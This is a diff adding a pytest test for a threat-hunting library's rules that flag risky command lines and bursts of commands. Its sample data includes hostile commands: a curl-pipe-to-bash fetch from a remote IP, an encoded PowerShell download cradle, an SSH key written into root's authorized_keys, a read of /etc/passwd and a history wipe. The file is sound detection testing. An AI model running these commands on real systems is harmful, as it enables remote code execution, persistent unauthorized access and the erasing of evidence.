@@ -307,3 +307,38 @@ def test_bridge_rejects_non_tables_and_keeps_types():
     batch = pa.record_batch({"t": pa.array(["8.8.8.8", None], type=pa.large_string())})
     out = pa.record_batch(_huntbook.extract_iocs(batch, ["t"]))
     assert out.num_rows == 1 and out.schema.field("SourceIndex").type == pa.int64()
+
+
+# --- command-line rules -----------------------------------------------------------------
+
+
+def test_risky_commands_and_command_speed():
+    times = pd.date_range("2024-05-01 10:00:00", periods=8, freq="200ms", tz="UTC")
+    encoded = ps_encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')")
+    cmds = pd.DataFrame(
+        {
+            "TimeGenerated": times,
+            "cmdline": [
+                "curl -s http://203.0.113.9/install.sh | bash",
+                "ls -la",
+                f"powershell -enc {encoded}",
+                "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys",
+                "id",
+                "uname -a",
+                "cat /etc/passwd",
+                "history -c",
+            ],
+            "ses": ["7"] * 8,
+        },
+        index=range(100, 108),
+    )
+    hits = huntbook.risky_commands(cmds, "cmdline")
+    assert {"SourceIndex", "TimeGenerated", "Command", "RuleId", "RuleName", "Severity", "MatchedText", "MatchedIn"} <= set(hits.columns)
+    assert {100, 102, 103, 107} <= set(hits["SourceIndex"])
+    assert 101 not in set(hits["SourceIndex"])
+    assert "decoded" in set(hits[hits["SourceIndex"] == 102]["MatchedIn"])
+    bursts = huntbook.cmd_speed(cmds, "cmdline", session_column="ses", time_window=1.0, events=3)
+    assert len(bursts) > 0
+    assert all(set(ix) <= set(cmds.index) for ix in bursts["SourceIndexes"])
+    with pytest.raises(ValueError, match="Command"):
+        huntbook.risky_commands(cmds)
